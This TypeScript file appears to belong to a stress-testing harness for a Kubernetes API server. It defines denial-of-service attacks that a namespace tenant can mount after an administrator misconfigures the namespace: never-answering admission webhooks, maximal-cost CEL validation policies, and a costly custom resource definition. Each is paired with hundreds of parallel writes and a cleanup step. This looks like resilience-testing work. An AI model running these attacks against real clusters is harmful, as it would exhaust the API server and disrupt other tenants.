import { createServer, type Server } from 'node:net';
import type { Attack } from '../attack.js';
import type { Attacker } from '../attacker.js';
import { filler, map, times } from './bodies.js';

const admission = '/apis/admissionregistration.k8s.io/v1';
const own = (attacker: Attacker) => ({ matchLabels: { 'kubernetes.io/metadata.name': attacker.target.namespace } });
const matched = [
  { apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['configmaps', 'pods'], scope: '*' },
];
/** A group of its own for each round of the attack, so that the removal of an earlier one is in nobody's way. */
const groupOf = ({ target }: Attacker) => `${target.namespace}.example.com`;
const everyPair = (depth: number): string =>
  depth === 0 ? 'a0 != "none"' : `object.data.all(a${depth - 1}, ${everyPair(depth - 1)})`;
let hanging: Server | undefined;

/** A server that accepts connections and never sends anything. */
async function hangingPort(): Promise<number> {
  const server = createServer(() => undefined);
  hanging = server;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as { port: number }).port;
}

async function removeAll(attacker: Attacker, paths: readonly string[]): Promise<void> {
  for (const path of paths) await attacker.asAdmin({ method: 'DELETE', path });
  hanging?.close();
}

async function hooks(attacker: Attacker, kind: string, failurePolicy: string): Promise<void> {
  const url = `https://127.0.0.1:${await hangingPort()}/`;
  const webhooks = times(5, (i) => ({
    name: `hang-${i}.example.com`,
    clientConfig: { url },
    rules: matched,
    namespaceSelector: own(attacker),
    sideEffects: 'None',
    admissionReviewVersions: ['v1'],
    timeoutSeconds: 30,
    failurePolicy,
  }));
  await attacker.asAdmin({
    method: 'POST',
    path: `${admission}/${kind}`,
    body: { metadata: { name: 'mallory' }, webhooks },
  });
}

/** Settings that a careless administrator makes for one namespace, and that its tenant then exploits. */
export const administrators: readonly Attack[] = [
  {
    name: 'hanging-hooks',
    about: 'five webhooks of the namespace that never answer within 30 s, beside 300 writes at one time',
    parallel: 300,
    prepare: (attacker) => hooks(attacker, 'validatingwebhookconfigurations', 'Ignore'),
    act: (attacker, n) => attacker.create('configmaps', map(`m-${n}`, { text: filler(200_000, n) }), n),
    undo: (attacker) => removeAll(attacker, [`${admission}/validatingwebhookconfigurations/mallory`]),
  },
  {
    name: 'hanging-mutations',
    about: 'five mutating webhooks of the namespace that never answer, beside updates of one object',
    parallel: 300,
    prepare: async (attacker) => {
      await attacker.create('configmaps', map('one'));
      await hooks(attacker, 'mutatingwebhookconfigurations', 'Fail');
    },
    act: (attacker, n) => {
      const path = attacker.path('configmaps/one');
      return attacker.send({ method: 'PATCH', path, body: { data: { k: filler(10_000, n) } } }, n);
    },
    undo: (attacker) => removeAll(attacker, [`${admission}/mutatingwebhookconfigurations/mallory`]),
  },
  {
    name: 'dear-policies',
    about: 'ten policies of the namespace whose expressions go to the limit of cost, beside writes',
    parallel: 32,
    prepare: async (attacker) => {
      for (let n = 0; n < 10; n++) {
        const validations = times(5, () => ({ expression: `!has(object.data) || ${everyPair(3)}` }));
        const matchConstraints = {
          resourceRules: matched.map((rule) => ({ ...rule, operations: ['CREATE', 'UPDATE'] })),
        };
        const spec = { matchConstraints, validations, failurePolicy: 'Ignore' };
        const metadata = { name: `mallory-${n}` };
        await attacker.asAdmin({
          method: 'POST',
          path: `${admission}/validatingadmissionpolicies`,
          body: { metadata, spec },
        });
        const binding = {
          policyName: `mallory-${n}`,
          validationActions: ['Warn'],
          matchResources: { namespaceSelector: own(attacker) },
        };
        await attacker.asAdmin({
          method: 'POST',
          path: `${admission}/validatingadmissionpolicybindings`,
          body: { metadata, spec: binding },
        });
      }
      await attacker.rest(2000);
    },
    act: (attacker, n) => {
      const data = Object.fromEntries(times(60, (i) => [`k${i}`, 'v']));
      return attacker.create('configmaps', map(`m-${n}`, data), n);
    },
    undo: (attacker) =>
      removeAll(
        attacker,
        times(10, (n) => [
          `${admission}/validatingadmissionpolicybindings/mallory-${n}`,
          `${admission}/validatingadmissionpolicies/mallory-${n}`,
        ]).flat(),
      ),
  },
  {
    name: 'dear-definitions',
    about: 'a definition whose rules cost what they may, beside large objects of its kind',
    parallel: 16,
    prepare: async (attacker) => {
      const item = { type: 'object', properties: { k: { type: 'string', maxLength: 20 }, v: { type: 'integer' } } };
      const rules = times(5, () => ({ rule: 'self.all(a, self.exists(b, a.k == b.k))' }));
      const list = { type: 'array', maxItems: 300, items: item, 'x-kubernetes-validations': rules };
      const openAPIV3Schema = { type: 'object', properties: { spec: { type: 'object', properties: { list } } } };
      const group = groupOf(attacker);
      const spec = {
        group,
        scope: 'Namespaced',
        names: { plural: 'dears', singular: 'dear', kind: 'Dear', listKind: 'DearList' },
        versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema } }],
      };
      const crds = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';
      await attacker.asAdmin({
        method: 'POST',
        path: crds,
        body: { metadata: { name: `dears.${group}` }, spec },
      });
      const labels = { 'rbac.authorization.k8s.io/aggregate-to-admin': 'true' };
      const right = [{ apiGroups: [group], resources: ['*'], verbs: ['*'] }];
      const roles = '/apis/rbac.authorization.k8s.io/v1/clusterroles';
      await attacker.asAdmin({
        method: 'POST',
        path: roles,
        body: { metadata: { name: 'mallory-dears', labels }, rules: right },
      });
      await attacker.rest(5000);
    },
    act: (attacker, n) => {
      const list = times(300, (i) => ({ k: `k${i}`, v: i }));
      const body = {
        apiVersion: `${groupOf(attacker)}/v1`,
        kind: 'Dear',
        metadata: { name: `d-${n}` },
        spec: { list },
      };
      return attacker.create(`${groupOf(attacker)}/v1/dears`, body, n);
    },
    undo: (attacker) =>
      removeAll(attacker, [
        `/apis/apiextensions.k8s.io/v1/customresourcedefinitions/dears.${groupOf(attacker)}`,
        '/apis/rbac.authorization.k8s.io/v1/clusterroles/mallory-dears',
      ]),
  },
];
